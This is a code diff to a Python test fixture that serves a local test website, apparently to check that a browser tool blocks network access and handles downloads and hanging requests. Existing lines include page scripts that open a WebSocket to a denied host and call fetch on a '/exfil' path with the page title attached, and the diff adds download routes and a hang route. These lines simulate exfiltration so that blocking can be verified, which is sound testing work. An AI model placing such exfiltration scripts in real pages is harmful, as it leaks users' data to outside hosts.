@@ -49,6 +49,13 @@ def website() -> Iterator[Website]:
     page("/ws", "WS", f"<h1>WS</h1><script>try {{ new WebSocket('{deny.replace('http', 'ws')}/sock') }} catch (e) {{}}</script>")
     page("/fetch", "Fetch", f"<h1>Fetch</h1><script>fetch('{deny}/exfil?d=' + document.title).catch(() => 0)</script>")
     page("/big", "Big", "<h1>Big</h1>" + "".join(f"<p>Paragraph {i} " + "lorem ipsum " * 20 + "</p>" for i in range(400)))
+    page("/files", "Files", "<h1>Files</h1><a id='dl' href='/report.csv' download>Report</a>"
+         "<a id='big' href='/huge.bin' download>Huge</a>")
+    site.routes["/report.csv"] = lambda h, r: h.send_body(200, b"a,b\n1,2\n", "text/csv",
+                                                          {"Content-Disposition": "attachment; filename=report.csv"})
+    site.routes["/huge.bin"] = lambda h, r: h.send_body(200, b"z" * 300_000, "application/octet-stream",
+                                                        {"Content-Disposition": "attachment; filename=huge.bin"})
+    site.routes["/hang"] = lambda h, r: __import__("time").sleep(30)
     site.routes["/redirect-out"] = lambda h, r: h.redirect(f"{deny}/redirected")
     site.routes["/login"] = lambda h, r: h.send_body(
         200, _html("Logged in", "<h1>Welcome</h1>"), "text/html", {"Set-Cookie": "sid=abc123; Path=/; Max-Age=3600"})
